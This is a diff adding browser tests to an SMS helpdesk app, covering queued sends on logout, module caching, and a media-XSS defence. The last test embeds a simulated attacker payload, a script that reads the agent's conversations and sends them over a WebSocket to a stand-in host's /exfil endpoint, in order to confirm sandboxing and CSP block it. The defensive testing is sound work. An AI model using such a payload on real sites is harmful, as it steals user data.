@@ -15,7 +15,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
+import crypto from 'node:crypto';
 import { accessSync, constants as fsConstants, createWriteStream, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
 import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
@@ -157,8 +159,10 @@ function runCli(args, { env, cwd, input = '', timeout = 20_000 }) {
 }
 
 class Server {
-  constructor(name) {
+  /** `env`: extra environment for the binary (e.g. live mode against a fake Twilio). */
+  constructor(name, env = {}) {
     this.name = name;
+    this.extraEnv = env;
     this.dir = mkdtempSync(path.join(os.tmpdir(), 'smsdesk-browser-'));
     this.dbUrl = `sqlite://${path.join(this.dir, 'db.sqlite')}`;
     this.logPath = path.join(this.dir, 'server.log');
@@ -173,7 +177,7 @@ class Server {
   }
 
   env() {
-    return serverEnv({ DATABASE_URL: this.dbUrl, PORT: String(this.port), HOST: '127.0.0.1' });
+    return serverEnv({ DATABASE_URL: this.dbUrl, PORT: String(this.port), HOST: '127.0.0.1', ...this.extraEnv });
   }
 
   async addAgent({ email, name, number }) {
@@ -315,8 +319,8 @@ async function newPage({ viewport = { width: 1280, height: 800 } } = {}) {
  * Run `fn` with a fresh server (agents created) and a fresh browser context; always cleaned up.
  * The server log and the page console are kept in TEST_OUTPUT when the test fails.
  */
-async function withServer(name, fn, { agents = [ALICE], viewport } = {}) {
-  const server = new Server(name);
+async function withServer(name, fn, { agents = [ALICE], viewport, env } = {}) {
+  const server = new Server(name, env);
   let ctx = null;
   let failed = true;
   try {
@@ -338,6 +342,39 @@ async function withServer(name, fn, { agents = [ALICE], viewport } = {}) {
     }
     await server.dispose(failed ? slug(name) : null);
   }
+}
+
+/**
+ * A stand-in for Twilio's API in live mode (its address is TWILIO_API_BASE, so the media proxy
+ * fetches from it): serves the media put in `media`, and records every request and websocket
+ * upgrade, so that an exfiltration attempt would be seen.
+ */
+async function startFakeTwilio() {
+  const media = new Map();
+  const requests = [];
+  const upgrades = [];
+  const srv = http.createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    const item = media.get(new URL(req.url, 'http://fake').pathname);
+    if (!item) {
+      res.writeHead(404).end();
+      return;
+    }
+    res.writeHead(200, { 'Content-Type': item.type }).end(item.body);
+  });
+  srv.on('upgrade', (req, socket) => {
+    upgrades.push(req.url);
+    socket.destroy();
+  });
+  await new Promise((resolve) => srv.listen(0, '127.0.0.1', resolve));
+  const url = `http://127.0.0.1:${srv.address().port}`;
+  return { url, media, requests, upgrades, close: () => new Promise((resolve) => srv.close(resolve)) };
+}
+
+/** X-Twilio-Signature as Twilio computes it: HMAC-SHA1 over the URL and the sorted parameters. */
+function twilioSignature(token, url, params) {
+  const data = url + Object.keys(params).sort().map((k) => k + params[k]).join('');
+  return crypto.createHmac('sha1', token).update(data, 'utf8').digest('base64');
 }
 
 async function shot(page, file, opts = {}) {
@@ -977,4 +1014,202 @@ test('i. phone width (390×844): list, thread and back', { timeout: 45_000 }, as
     },
     { viewport: { width: 390, height: 844 } },
   );
+});
+
+test('j. logging out, or losing the session, leaves no queued send in localStorage; a reload while signed in keeps it', { timeout: 60_000 }, async () => {
+  await withServer('j sign-out forgets queued sends', async ({ server, context, page, rec }) => {
+    const { agent } = await openInbox(context, page, server);
+    await startConversation(page, '+14155550123', 'Jane Doe');
+    const stored = () =>
+      page.evaluate(() => Object.fromEntries(Object.keys(localStorage).filter((k) => k.startsWith('smsdesk.')).map((k) => [k, localStorage.getItem(k)])));
+    const queued = async () => JSON.parse((await stored())[`smsdesk.outbox.${agent.id}`] ?? '[]').map((e) => e.payload.body);
+    // Sends cannot get through (the rest of the page can): each message waits in the queue.
+    const unreachable = (route) => route.abort('internetdisconnected');
+    const queue = async (body) => {
+      await page.route('**/api/crm/sms/send', unreachable);
+      await typeAndSend(page, body);
+      await waitUntil(`"${body}" queued in localStorage`, async () => (await queued()).includes(body));
+    };
+
+    // Signed in: a reload keeps the queued send, shows it, and sends it once it can.
+    await queue('Queued across a reload');
+    await page.reload();
+    await waitLive(page);
+    await page.waitForSelector('#thread .bubble.outbound .status .spinner');
+    assert.deepEqual(await queued(), ['Queued across a reload']);
+    await page.unroute('**/api/crm/sms/send', unreachable);
+    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 10_000 });
+    await waitUntil('the delivered send to leave the queue', async () => (await queued()).length === 0);
+
+    // Log out with a send still queued: nothing of ours stays in localStorage.
+    await queue('Queued at logout');
+    await page.click('#logout-button');
+    await page.waitForURL(/\/login$/);
+    assert.deepEqual(await stored(), {}, 'localStorage after logout');
+
+    // Signed in again, the session ends elsewhere: the queued send's next attempt gets 401, and the page
+    // leaves for /login the same way.
+    const { token } = await openInbox(context, page, server);
+    await openConversationRow(page, 'Jane Doe');
+    await queue('Queued when the session ends');
+    const res = await fetch(`${server.base}/api/auth/logout`, { method: 'POST', headers: { Authorization: `Bearer ${token}` } });
+    assert.equal(res.status, 204);
+    await page.unroute('**/api/crm/sms/send', unreachable);
+    await page.waitForURL(/\/login$/, { timeout: 20_000 });
+    assert.deepEqual(await stored(), {}, 'localStorage after the 401');
+    assert.deepEqual(rec.errors, []);
+    assert.deepEqual(rec.dialogs, []);
+  });
+});
+
+test('k. the page\'s modules are preloaded and fetched once; a reload revalidates them (304)', { timeout: 45_000 }, async () => {
+  await withServer('k modules revalidate', async ({ server, context, page, rec }) => {
+    const fetched = [];
+    page.on('response', (r) => {
+      const url = new URL(r.url());
+      if (url.origin === server.base && /\.(js|css)$/.test(url.pathname)) fetched.push({ path: url.pathname, status: r.status() });
+    });
+    await openInbox(context, page, server);
+    const preloaded = await page.$$eval('link[rel=modulepreload]', (links) => links.map((l) => new URL(l.href).pathname));
+    assert.ok(preloaded.includes('/js/store.js') && preloaded.includes('/vendor/socket.io.esm.min.js'), `preloaded: ${preloaded}`);
+    const files = ['/app.css', '/app.js', ...preloaded].sort();
+    const first = fetched.splice(0);
+    assert.deepEqual(first.map((f) => f.path).sort(), files, 'each file fetched once (the preloads are the imports)');
+    assert.ok(first.every((f) => f.status === 200), JSON.stringify(first));
+
+    await page.reload();
+    await waitLive(page);
+    const again = fetched.splice(0);
+    assert.deepEqual(again.map((f) => f.path).sort(), files);
+    assert.deepEqual(again.filter((f) => f.status !== 304), [], 'revalidated, not downloaded again');
+    assertCleanConsole(rec);
+  });
+});
+
+test('l. an HTML media item is a sandboxed download: no script runs on our origin; the CSP stops websockets to other hosts', { timeout: 45_000 }, async () => {
+  const fake = await startFakeTwilio();
+  const token = 'fake-auth-token';
+  try {
+    await withServer(
+      'l media xss',
+      async ({ server, context, page, rec }) => {
+        // The attacker's MMS: an HTML page that loads the second media item as a same-origin
+        // script, which reads the agent's data and ships it out over a websocket.
+        fake.media.set(
+          '/media/evil.html',
+          { type: 'text/html; charset=utf-8', body: '<!doctype html><title>evil</title><script src="1"></script>' },
+        );
+        fake.media.set('/media/evil.js', {
+          type: 'application/javascript',
+          body: `localStorage.setItem('pwned', location.origin);
+            if (window.opener) window.opener.postMessage('pwned', '*');
+            fetch('/api/crm/sms/conversations').then((r) => r.text()).then((t) => {
+              localStorage.setItem('stolen', t);
+              const ws = new WebSocket('${fake.url.replace('http', 'ws')}/exfil');
+              ws.onopen = () => ws.send(t);
+            });`,
+        });
+        await openInbox(context, page, server);
+        await page.evaluate(() => window.addEventListener('message', (e) => (window.__opener = e.data)));
+
+        const params = {
+          MessageSid: `MM${crypto.randomBytes(16).toString('hex')}`,
+          AccountSid: 'ACfeedfacefeedfacefeedfacefeedface',
+          From: '+14155550123',
+          To: ALICE.number,
+          Body: 'Photos of the apartment',
+          NumMedia: '2',
+          MediaUrl0: `${fake.url}/media/evil.html`,
+          MediaContentType0: 'image/jpeg',
+          MediaUrl1: `${fake.url}/media/evil.js`,
+          MediaContentType1: 'image/png',
+        };
+        const hook = await fetch(`${server.base}/api/crm/sms/webhook`, {
+          method: 'POST',
+          headers: {
+            'Content-Type': 'application/x-www-form-urlencoded',
+            'X-Twilio-Signature': twilioSignature(token, `http://localhost:${server.port}/api/crm/sms/webhook`, params),
+          },
+          body: new URLSearchParams(params),
+        });
+        assert.equal(hook.status, 200, 'the signed webhook is stored');
+        await page.waitForSelector('#conversation-list .conversation');
+        await openConversationRow(page, '555-0123');
+        // Neither item is an image: the page shows "Image unavailable" links.
+        await page.waitForFunction(() => document.querySelectorAll('#thread .media-image .media-missing').length === 2);
+        const href = await page.getAttribute('#thread .media-image >> nth=0', 'href');
+        assert.match(href, /^\/api\/crm\/sms\/messages\/\d+\/media\/0$/);
+
+        // The victim clicks the first link.
+        const downloads = [];
+        const onPage = (p) => p.on('download', (d) => downloads.push(d));
+        page.on('download', (d) => downloads.push(d));
+        context.on('page', onPage);
+        await page.click('#thread .media-image >> nth=0');
+        const pwned = () => page.evaluate(() => localStorage.getItem('pwned'));
+        await waitUntil('the click to end in a download or in the script running', async () => downloads.length > 0 || (await pwned()) !== null);
+        context.off('page', onPage);
+        assert.equal(await pwned(), null, 'no media script ran on our origin');
+        assert.equal(downloads.length, 1, 'the HTML was downloaded, not rendered');
+        assert.match(downloads[0].suggestedFilename(), /^media-\d+-0\.bin$/);
+        await downloads[0].cancel().catch(() => {});
+
+        for (const n of [0, 1]) {
+          const res = await context.request.get(`${server.base}${href.replace(/0$/, String(n))}`);
+          assert.equal(res.status(), 200);
+          const h = res.headers();
+          assert.match(h['content-disposition'], /^attachment; filename="media-\d+-\d\.bin"$/, `media ${n}`);
+          assert.equal(h['content-type'], 'application/octet-stream', `media ${n}`);
+          assert.equal(h['x-content-type-options'], 'nosniff', `media ${n}`);
+          assert.equal(h['content-security-policy'], 'sandbox', `media ${n}`);
+        }
+
+        // Nor can any page of ours run the second item as a script (nosniff, not a script type).
+        const asScript = await page.evaluate(
+          (src) =>
+            new Promise((resolve) => {
+              const el = document.createElement('script');
+              el.src = src;
+              el.onload = () => resolve('ran');
+              el.onerror = () => resolve('refused');
+              document.head.append(el);
+            }),
+          href.replace(/0$/, '1'),
+        );
+        assert.equal(asScript, 'refused', 'the media is not usable as a same-origin script');
+
+        // The page may open websockets to its own origin only (it is Live: its own one works).
+        const ws = await page.evaluate(
+          (url) =>
+            new Promise((resolve) => {
+              document.addEventListener('securitypolicyviolation', (e) => resolve(`blocked by ${e.effectiveDirective}`), { once: true });
+              try {
+                const socket = new WebSocket(url);
+                socket.onopen = () => resolve('opened');
+                socket.onerror = () => setTimeout(() => resolve('failed without a CSP violation'), 2000);
+              } catch (e) {
+                resolve(`blocked by ${e.name}`);
+              }
+            }),
+          `${fake.url.replace('http', 'ws')}/exfil`,
+        );
+        assert.ok(ws === 'blocked by connect-src' || ws === 'blocked by SecurityError', `new WebSocket to another host: ${ws}`);
+        assert.deepEqual(await badge(page), { state: 'live', text: 'Live' });
+
+        assert.equal(await page.evaluate(() => localStorage.getItem('stolen')), null);
+        assert.equal(await page.evaluate(() => window.__opener ?? null), null, 'nothing reached the opener');
+        assert.deepEqual(fake.upgrades, [], 'no websocket reached the other host');
+        assert.deepEqual(
+          fake.requests.filter((r) => !r.startsWith('GET /media/')),
+          [],
+          'the other host saw nothing but the proxy fetching media',
+        );
+        assert.deepEqual(rec.errors, []);
+        assert.deepEqual(rec.dialogs, []);
+      },
+      { env: { TWILIO_ACCOUNT_SID: 'ACfeedfacefeedfacefeedfacefeedface', TWILIO_AUTH_TOKEN: token, TWILIO_API_BASE: fake.url } },
+    );
+  } finally {
+    await fake.close();
+  }
 });
